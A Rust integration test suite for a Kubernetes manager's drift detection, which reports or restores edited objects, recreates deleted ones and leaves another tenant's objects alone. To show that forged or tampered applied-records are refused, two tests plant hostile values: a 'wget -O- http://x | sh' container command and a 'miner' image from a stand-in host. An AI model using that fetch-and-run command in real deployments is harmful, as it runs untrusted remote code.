//! Drift (`drift.v1`) against the real API server: what a deploy applied
//! is recorded in a Secret owned by the deployment (gone with it, by the
//! garbage collector); a `kubectl edit` is reported, then corrected under
//! `enforce`; a deleted object is recreated; `ignore`d fields are neither
//! reported nor restored; a rollout's image is kept, never rolled back;
//! an object of the same name that is another's is never touched, and
//! does not keep the deployment's own objects from being restored; a
//! record goes with its deployment's uninstall, and one a finalizer holds
//! is never enforced.

mod support;

use std::time::Duration;

use nexo_manager::kube::client::{Body, MERGE_PATCH, Method};
use serde_json::{Value, json};
use support::commands::{command, configmap, ns_path, proxy, secret, wait_ack, wait_heartbeat};
use support::fixture::Fixture;
use support::manager::Manager;

const WAIT: Duration = Duration::from_secs(60);

/// The drift entry of `name` in a heartbeat.
fn drift_of<'a>(hb: &'a Value, name: &str) -> Option<&'a Value> {
    hb["drift"].as_array()?.iter().find(|d| d["name"] == name)
}

/// Waits for a heartbeat after the `after`th whose drift entry of `name`
/// (`None` when it has none) satisfies `pred`; returns its position.
fn wait_drift(
    f: &Fixture,
    m: &mut Manager,
    after: usize,
    name: &str,
    what: &str,
    pred: impl Fn(Option<&Value>) -> bool,
) -> (usize, Option<Value>) {
    wait_heartbeat(f, m, after, what, |hb| {
        let d = drift_of(hb, name);
        pred(d).then(|| d.cloned())
    })
}

/// An edit by another field manager, as `kubectl edit` makes it.
fn edit(f: &Fixture, kind: &str, name: &str, patch: Value) {
    let path = format!("{}?fieldManager=kubectl-edit", ns_path(f, kind, name));
    let bytes = serde_json::to_vec(&patch).unwrap();
    f.tb.admin()
        .request(
            Method::PATCH,
            &path,
            Some(Body {
                content_type: MERGE_PATCH,
                bytes: &bytes,
            }),
        )
        .unwrap_or_else(|e| panic!("edit {kind} {name}: {e}"));
}

fn get(f: &Fixture, kind: &str, name: &str) -> Option<Value> {
    f.tb.admin().get_opt(&ns_path(f, kind, name)).unwrap()
}

fn deploy(f: &Fixture, m: &mut Manager, id: &str, drift: Value) {
    let payload = json!({"deployment": {"name": "orders", "namespace": f.ns.name}, "format": "crd",
        "manifests": [proxy("orders"), configmap("orders-config"), secret("orders-db")],
        "drift": drift});
    f.sim
        .enqueue_command(&f.env_id, command(id, "deploy", payload));
    let ack = wait_ack(f, m, id);
    m.check(ack["result"] == "applied", &format!("{id}: {ack}"));
}

#[test]
fn an_edit_is_reported_until_undone_and_ignored_fields_never_are() {
    let f = Fixture::new("drift-report");
    let mut m = f.spawn_with_probes(&[("NEXO_DRIFT_INTERVAL", "1s")]);
    deploy(
        &f,
        &mut m,
        "dr-deploy",
        json!({"mode": "report", "ignore": ["/spec/replicas"]}),
    );
    // The record: a Secret owned by the NexoProxy, labelled the Manager's own.
    let proxy_uid = get(&f, "NexoProxy", "orders").unwrap()["metadata"]["uid"].clone();
    let record = get(&f, "Secret", "nexo-applied-orders").expect("the record Secret");
    m.check(
        record["metadata"]["ownerReferences"][0]["uid"] == proxy_uid
            && record["metadata"]["labels"]["nexo.io/role"] == "applied-record",
        &format!(
            "the record is owned by the deployment: {}",
            record["metadata"]
        ),
    );
    let start = f.sim.heartbeats().len();

    edit(
        &f,
        "ConfigMap",
        "orders-config",
        json!({"data": {"listen": "27018"}}),
    );
    edit(&f, "NexoProxy", "orders", json!({"spec": {"replicas": 5}}));
    let (i, d) = wait_drift(&f, &mut m, start, "orders", "the edit reported", |d| {
        d.is_some()
    });
    let d = d.unwrap();
    m.check(
        d["mode"] == "report"
            && d["objects"]
                == json!([{"kind": "ConfigMap", "name": "orders-config", "fields": ["/data/listen"],
                          "action": "reported", "detectedAt": d["objects"][0]["detectedAt"]}]),
        &format!("the ConfigMap, not the ignored replicas: {d}"),
    );
    // Reported while it lasts, nothing changed.
    let (_, later) = wait_drift(
        &f,
        &mut m,
        i + 3,
        "orders",
        "three heartbeats later",
        |_| true,
    );
    m.check(
        later
            .as_ref()
            .is_some_and(|l| l["objects"][0]["detectedAt"] == d["objects"][0]["detectedAt"]),
        &format!("still reported, detectedAt kept: {later:?}"),
    );
    m.check(
        get(&f, "ConfigMap", "orders-config").unwrap()["data"]["listen"] == "27018",
        "report changes nothing",
    );
    let events: Value =
        f.tb.admin()
            .get(&format!(
                "/apis/events.k8s.io/v1/namespaces/{}/events",
                f.ns.name
            ))
            .unwrap();
    let detected: Vec<&Value> = events["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["reason"] == "DriftDetected")
        .collect();
    m.check(
        detected.len() == 1
            && detected[0]["regarding"]["uid"] == proxy_uid
            && detected[0]["note"]
                .as_str()
                .unwrap()
                .contains("/data/listen"),
        &format!("one DriftDetected Event about the proxy: {detected:?}"),
    );

    // Put back by hand, the field is still another manager's: reported.
    edit(
        &f,
        "ConfigMap",
        "orders-config",
        json!({"data": {"listen": "27017"}}),
    );
    let now = f.sim.heartbeats().len();
    let (_, d) = wait_drift(&f, &mut m, now + 2, "orders", "a heartbeat", |_| true);
    m.check(
        d.is_some_and(|d| d["objects"][0]["fields"] == json!(["/data/listen"])),
        "a field taken by another field manager is drift at any value",
    );
    // Deployed again (the replicas put back too, or the deploy would
    // rightly conflict with their new manager): the Manager holds its
    // fields again, the entry leaves.
    edit(&f, "NexoProxy", "orders", json!({"spec": {"replicas": 2}}));
    deploy(
        &f,
        &mut m,
        "dr-deploy-2",
        json!({"mode": "report", "ignore": ["/spec/replicas"]}),
    );
    let now = f.sim.heartbeats().len();
    wait_drift(
        &f,
        &mut m,
        now,
        "orders",
        "the entry gone once deployed again",
        |d| d.is_none(),
    );
    let checks = m.metric("nexo_manager_drift_checks_total").unwrap_or(0.0);
    m.check(checks >= 2.0, &format!("drift checks counted: {checks}"));
    let reported = m
        .metric("nexo_manager_drifted_objects_total{mode=\"report\",action=\"reported\"}")
        .unwrap_or(0.0);
    m.check(
        reported >= 1.0,
        &format!("drifted objects counted: {reported}"),
    );

    // Uninstalled: the record goes with the deployment.
    let un = command(
        "dr-uninstall",
        "uninstall",
        json!({"deployment": {"name": "orders", "namespace": f.ns.name}}),
    );
    f.sim.enqueue_command(&f.env_id, un);
    let ack = wait_ack(&f, &mut m, "dr-uninstall");
    m.check(ack["result"] == "applied", &format!("{ack}"));
    m.wait_until(WAIT, "the record collected with its owner", || {
        get(&f, "Secret", "nexo-applied-orders").is_none()
    });
    m.stop_expecting_exit_0();
}

#[test]
fn enforce_restores_edits_recreates_deletions_keeps_rollouts_and_never_touches_anothers() {
    let f = Fixture::new("drift-enforce");
    let mut m = f.spawn_with_probes(&[("NEXO_DRIFT_INTERVAL", "1s")]);
    deploy(
        &f,
        &mut m,
        "de-deploy",
        json!({"mode": "enforce", "ignore": ["/spec/replicas"]}),
    );
    // A rollout after the deploy: its image is what enforcement keeps.
    let roll = command(
        "de-roll",
        "rollout",
        json!({"imageTag": "1.4.3", "targets": [{"name": "orders", "namespace": f.ns.name}]}),
    );
    f.sim.enqueue_command(&f.env_id, roll);
    let ack = wait_ack(&f, &mut m, "de-roll");
    m.check(ack["result"] == "applied", &format!("{ack}"));
    let start = f.sim.heartbeats().len();

    edit(
        &f,
        "ConfigMap",
        "orders-config",
        json!({"data": {"listen": "1"}}),
    );
    edit(&f, "NexoProxy", "orders", json!({"spec": {"replicas": 7}}));
    let (i, d) = wait_drift(&f, &mut m, start, "orders", "the edit corrected", |d| {
        d.is_some_and(|d| d["objects"][0]["action"] == "corrected")
    });
    let d = d.unwrap();
    m.check(
        d["mode"] == "enforce"
            && d["objects"][0]["kind"] == "ConfigMap"
            && d["objects"][0]["fields"] == json!(["/data/listen"]),
        &format!("corrected: {d}"),
    );
    let cm = get(&f, "ConfigMap", "orders-config").unwrap();
    let p = get(&f, "NexoProxy", "orders").unwrap();
    m.check(
        cm["data"]["listen"] == "27017",
        &format!("the edit undone: {}", cm["data"]),
    );
    m.check(
        p["spec"]["replicas"] == 7 && p["spec"]["image"] == "registry.example.com/nexo/proxy:1.4.3",
        &format!("replicas ignored, the rollout's image kept: {}", p["spec"]),
    );
    // Shown once, then gone.
    wait_drift(
        &f,
        &mut m,
        i + 1,
        "orders",
        "the correction shown once",
        |d| d.is_none(),
    );

    // Deleted: recreated.
    f.tb.admin()
        .delete(&ns_path(&f, "ConfigMap", "orders-config"), "Background")
        .unwrap();
    let now = f.sim.heartbeats().len();
    let (_, d) = wait_drift(&f, &mut m, now, "orders", "the deletion recreated", |d| {
        d.is_some_and(|d| d["objects"][0]["action"] == "recreated")
    });
    let d = d.unwrap();
    m.check(
        d["objects"][0]["gone"] == true && d["objects"][0].get("fields").is_none(),
        &format!("gone, no fields: {d}"),
    );
    m.check(
        get(&f, "ConfigMap", "orders-config").is_some_and(|c| c["data"]["listen"] == "27017"),
        "recreated as applied",
    );

    // Deleted, and another's object of the same name created: never
    // touched, the drift failed with why.
    f.tb.admin()
        .delete(&ns_path(&f, "ConfigMap", "orders-config"), "Background")
        .unwrap();
    m.wait_until(WAIT, "the ConfigMap deleted", || {
        get(&f, "ConfigMap", "orders-config").is_none()
    });
    // The Manager may recreate it first; then it is deleted again.
    let theirs = json!({"apiVersion": "v1", "kind": "ConfigMap",
        "metadata": {"name": "orders-config", "labels": {"team": "theirs"}}, "data": {"listen": "9"}});
    let collection = format!("/api/v1/namespaces/{}/configmaps", f.ns.name);
    let mut made = false;
    m.wait_until(WAIT, "another's ConfigMap in place", || {
        match f.tb.admin().create(&collection, &theirs) {
            Ok(_) => made = true,
            Err(_) => {
                let _ =
                    f.tb.admin()
                        .delete(&ns_path(&f, "ConfigMap", "orders-config"), "Background");
            }
        }
        made
    });
    let now = f.sim.heartbeats().len();
    let (_, d) = wait_drift(&f, &mut m, now, "orders", "the enforcement failed", |d| {
        d.is_some_and(|d| d["objects"][0]["action"] == "failed")
    });
    let d = d.unwrap();
    m.check(
        d["objects"][0]["message"]
            .as_str()
            .is_some_and(|s| !s.is_empty()),
        &format!("the failure says why: {d}"),
    );
    let cm = get(&f, "ConfigMap", "orders-config").unwrap();
    m.check(
        cm["data"]["listen"] == "9" && cm["metadata"]["labels"] == json!({"team": "theirs"}),
        &format!("another's object untouched: {cm}"),
    );
    let corrected = m
        .metric("nexo_manager_drifted_objects_total{mode=\"enforce\",action=\"corrected\"}")
        .unwrap_or(0.0);
    m.check(
        corrected >= 1.0,
        &format!("corrections counted: {corrected}"),
    );

    // A record rewritten by someone who may write Secrets in the
    // namespace: its proof no longer holds, so it is never enforced.
    f.tb.admin()
        .delete(&ns_path(&f, "ConfigMap", "orders-config"), "Background")
        .unwrap();
    let record = get(&f, "Secret", "nexo-applied-orders").unwrap();
    let text = base64_decode(record["data"]["payload"].as_str().unwrap());
    let mut payload: Value = serde_json::from_slice(&text).unwrap();
    payload["manifests"][0]["spec"]["image"] = json!("evil.example.com/miner:1");
    let encoded = base64_encode(&serde_json::to_vec(&payload).unwrap());
    f.tb.admin()
        .patch(
            &ns_path(&f, "Secret", "nexo-applied-orders"),
            MERGE_PATCH,
            &json!({"data": {"payload": encoded}}),
        )
        .unwrap();
    let now = f.sim.heartbeats().len();
    let (_, d) = wait_drift(
        &f,
        &mut m,
        now,
        "orders",
        "the tampered record refused",
        |d| {
            d.is_some_and(|d| {
                d["objects"].as_array().unwrap().iter().any(|o| {
                    o["action"] == "failed"
                        && o["kind"] == "Secret"
                        && o["name"] == "nexo-applied-orders"
                        && o["message"]
                            .as_str()
                            .is_some_and(|s| s.contains("the record is not the Manager's"))
                })
            })
        },
    );
    m.check(d.is_some(), "refused: not the Manager's record");
    let p = get(&f, "NexoProxy", "orders").unwrap();
    m.check(
        p["spec"]["image"] == "registry.example.com/nexo/proxy:1.4.3",
        &format!("nothing applied: {}", p["spec"]),
    );
    m.check(
        get(&f, "ConfigMap", "orders-config").is_none(),
        "the deleted ConfigMap not recreated from a record that is not the Manager's",
    );
    m.stop_expecting_exit_0();
}

#[test]
fn a_forged_record_is_never_enforced_and_is_reported_with_signatures_required() {
    let f = Fixture::new("drift-forged");
    // Signed commands required: a signature protects commands, and the
    // record is not one; its proof is what protects it.
    let keys = f.dir.join("command-keys");
    std::fs::write(&keys, format!("{}\n", f.sim.sign_commands(&f.env_id, "k1"))).unwrap();
    let mut m = f.spawn_with_probes(&[
        ("NEXO_DRIFT_INTERVAL", "1s"),
        ("NEXO_COMMAND_KEYS_FILE", keys.to_str().unwrap()),
        ("NEXO_COMMAND_SIGNATURES", "required"),
    ]);
    deploy(&f, &mut m, "df-deploy", json!({"mode": "enforce"}));
    let real = get(&f, "Secret", "nexo-applied-orders").expect("the record");
    m.check(
        real["metadata"]["annotations"]["nexo.io/proof"]
            .as_str()
            .is_some_and(|p| p.starts_with("v1:")),
        &format!(
            "the Manager's record carries its proof: {}",
            real["metadata"]
        ),
    );
    // Who may write Secrets in the namespace replaces the record with one
    // of their own (the labels and owner copied from the real one) that
    // plants a Deployment running a shell, and forges a record of a
    // deployment that does not exist.
    let plant = json!({"deployment": {"name": "orders", "namespace": f.ns.name}, "format": "legacy",
        "manifests": [{"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "orders"},
            "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "ghost"}},
                     "template": {"metadata": {"labels": {"app": "ghost"}},
                                  "spec": {"containers": [{"name": "c", "image": support::fixture::PROXY_IMAGE,
                                                           "command": ["sh", "-c", "wget -O- http://x | sh"]}]}}}}],
        "drift": {"mode": "enforce"}});
    let forged = |name: &str, payload: &Value| {
        let mut meta = real["metadata"].clone();
        let meta = meta.as_object_mut().unwrap();
        meta.retain(|k, _| ["labels", "ownerReferences"].contains(&k.as_str()));
        meta.insert("name".into(), json!(name));
        json!({"apiVersion": "v1", "kind": "Secret", "metadata": meta,
               "data": {"payload": base64_encode(&serde_json::to_vec(payload).unwrap())}})
    };
    let secrets = format!("/api/v1/namespaces/{}/secrets", f.ns.name);
    f.tb.admin()
        .delete(&ns_path(&f, "Secret", "nexo-applied-orders"), "Background")
        .unwrap();
    m.wait_until(WAIT, "the real record gone", || {
        get(&f, "Secret", "nexo-applied-orders").is_none()
    });
    f.tb.admin()
        .create(&secrets, &forged("nexo-applied-orders", &plant))
        .unwrap();
    let mut ghost = plant.clone();
    ghost["deployment"]["name"] = json!("ghost");
    ghost["manifests"][0]["metadata"]["name"] = json!("ghost");
    f.tb.admin()
        .create(&secrets, &forged("nexo-applied-ghost", &ghost))
        .unwrap();
    let now = f.sim.heartbeats().len();
    let not_ours = |d: Option<&Value>, secret: &str| {
        d.is_some_and(|d| {
            d["objects"].as_array().unwrap().iter().any(|o| {
                o["action"] == "failed"
                    && o["name"] == secret
                    && o["message"]
                        .as_str()
                        .is_some_and(|s| s.contains("the record is not the Manager's"))
            })
        })
    };
    wait_drift(
        &f,
        &mut m,
        now,
        "orders",
        "the replaced record reported",
        |d| not_ours(d, "nexo-applied-orders"),
    );
    wait_drift(
        &f,
        &mut m,
        now,
        "ghost",
        "the forged record reported",
        |d| not_ours(d, "nexo-applied-ghost"),
    );
    // Three checks later nothing was planted.
    let later = f.sim.heartbeats().len() + 3;
    wait_heartbeat(&f, &mut m, later, "three heartbeats later", |_| Some(()));
    for name in ["orders", "ghost"] {
        m.check(
            get(&f, "Deployment", name).is_none(),
            &format!("no Deployment {name} created from a forged record"),
        );
    }
    let hb = f.sim.last_heartbeat().unwrap();
    m.check(
        hb["deployments"]
            .as_array()
            .unwrap()
            .iter()
            .all(|d| d["name"] != "ghost"),
        &format!("no ghost in the inventory: {}", hb["deployments"]),
    );
    m.stop_expecting_exit_0();
}

/// Replaces the owned `name` with a tenant's ConfigMap of the same name
/// (the Manager may recreate its own in between: then it is deleted again).
fn squat(f: &Fixture, m: &mut Manager, name: &str) {
    let theirs = json!({"apiVersion": "v1", "kind": "ConfigMap",
        "metadata": {"name": name, "labels": {"team": "theirs"}}, "data": {"listen": "9"}});
    let collection = format!("/api/v1/namespaces/{}/configmaps", f.ns.name);
    let mut made = false;
    m.wait_until(WAIT, "the tenant's ConfigMap in place", || {
        let _ =
            f.tb.admin()
                .delete(&ns_path(f, "ConfigMap", name), "Background");
        made = f.tb.admin().create(&collection, &theirs).is_ok();
        made
    });
}

#[test]
fn a_squatted_name_is_left_alone_and_the_deployments_own_objects_are_restored() {
    let f = Fixture::new("drift-squat");
    let mut m = f.spawn_with_probes(&[("NEXO_DRIFT_INTERVAL", "1s")]);
    deploy(&f, &mut m, "ds-deploy", json!({"mode": "enforce"}));
    squat(&f, &mut m, "orders-config");
    edit(
        &f,
        "NexoProxy",
        "orders",
        json!({"spec": {"image": "registry.example.com/nexo/proxy:0.0.1"}}),
    );
    let start = f.sim.heartbeats().len();
    let (_, d) = wait_drift(
        &f,
        &mut m,
        start,
        "orders",
        "the proxy restored beside the squatted ConfigMap",
        |d| {
            d.is_some_and(|d| {
                let objects = d["objects"].as_array().unwrap();
                objects
                    .iter()
                    .any(|o| o["kind"] == "NexoProxy" && o["action"] == "corrected")
                    && objects
                        .iter()
                        .any(|o| o["kind"] == "ConfigMap" && o["action"] == "failed")
            })
        },
    );
    let d = d.unwrap();
    let failed = d["objects"]
        .as_array()
        .unwrap()
        .iter()
        .find(|o| o["kind"] == "ConfigMap")
        .unwrap();
    m.check(
        failed["name"] == "orders-config"
            && failed["gone"] == true
            && failed["message"]
                .as_str()
                .is_some_and(|s| s.contains("not managed by nexo-manager")),
        &format!("the squatted object failed with the reason: {d}"),
    );
    let p = get(&f, "NexoProxy", "orders").unwrap();
    m.check(
        p["spec"]["image"] == support::fixture::PROXY_IMAGE,
        &format!("the deployment's own object restored: {}", p["spec"]),
    );
    let cm = get(&f, "ConfigMap", "orders-config").unwrap();
    m.check(
        cm["data"]["listen"] == "9" && cm["metadata"]["labels"] == json!({"team": "theirs"}),
        &format!("the tenant's object untouched: {cm}"),
    );
    // Reported while it lasts, and not tried again (no reads, no dry
    // runs) while nothing changed.
    let now = f.sim.heartbeats().len();
    wait_drift(&f, &mut m, now + 3, "orders", "three checks later", |d| {
        d.is_some_and(|d| {
            d["objects"]
                .as_array()
                .unwrap()
                .iter()
                .any(|o| o["action"] == "failed")
        })
    });
    let held = m
        .stderr()
        .matches("failed before and nothing changed; not tried again")
        .count();
    m.check(
        held >= 2,
        &format!("the failed enforcement held, {held} times"),
    );
    m.stop_expecting_exit_0();
}

#[test]
fn a_record_being_deleted_or_whose_deployment_is_gone_is_never_enforced() {
    let f = Fixture::new("drift-uninstall");
    let mut m = f.spawn_with_probes(&[("NEXO_DRIFT_INTERVAL", "1s")]);
    deploy(&f, &mut m, "du-deploy", json!({"mode": "enforce"}));
    // A backup tool's finalizer holds the record.
    let record = ns_path(&f, "Secret", "nexo-applied-orders");
    f.tb.admin()
        .patch(
            &record,
            MERGE_PATCH,
            &json!({"metadata": {"finalizers": ["backup.example.com/hold"]}}),
        )
        .unwrap();
    // A record being deleted (the deployment still there) is not enforced.
    f.tb.admin().delete(&record, "Background").unwrap();
    edit(
        &f,
        "NexoProxy",
        "orders",
        json!({"spec": {"image": "registry.example.com/nexo/proxy:0.0.1"}}),
    );
    let now = f.sim.heartbeats().len();
    wait_heartbeat(&f, &mut m, now + 4, "four heartbeats later", |_| Some(()));
    m.check(
        get(&f, "NexoProxy", "orders")
            .is_some_and(|p| p["spec"]["image"] == "registry.example.com/nexo/proxy:0.0.1"),
        "a record being deleted is never enforced",
    );
    f.sim.enqueue_command(
        &f.env_id,
        command(
            "du-uninstall",
            "uninstall",
            json!({"deployment": {"name": "orders", "namespace": f.ns.name}}),
        ),
    );
    let ack = wait_ack(&f, &mut m, "du-uninstall");
    m.check(ack["result"] == "applied", &format!("uninstall: {ack}"));
    let held = get(&f, "Secret", "nexo-applied-orders");
    m.check(
        held.as_ref()
            .is_some_and(|r| !r["metadata"]["deletionTimestamp"].is_null()),
        &format!("the record deleted, held by the finalizer: {held:?}"),
    );
    // Checks go on for five seconds: the NexoProxy stays uninstalled.
    let now = f.sim.heartbeats().len();
    wait_heartbeat(&f, &mut m, now + 5, "five heartbeats later", |_| Some(()));
    m.check(
        get(&f, "NexoProxy", "orders")
            .is_none_or(|p| !p["metadata"]["deletionTimestamp"].is_null()),
        "the uninstalled NexoProxy never comes back",
    );
    m.check(
        f.sim
            .heartbeats()
            .iter()
            .skip(now)
            .all(|hb| drift_of(hb, "orders").is_none()),
        "nothing reported of an uninstalled deployment",
    );
    f.tb.admin()
        .patch(
            &record,
            MERGE_PATCH,
            &json!({"metadata": {"finalizers": null}}),
        )
        .unwrap();
    m.stop_expecting_exit_0();
}

fn base64_decode(s: &str) -> Vec<u8> {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.decode(s).unwrap()
}

fn base64_encode(b: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(b)
}
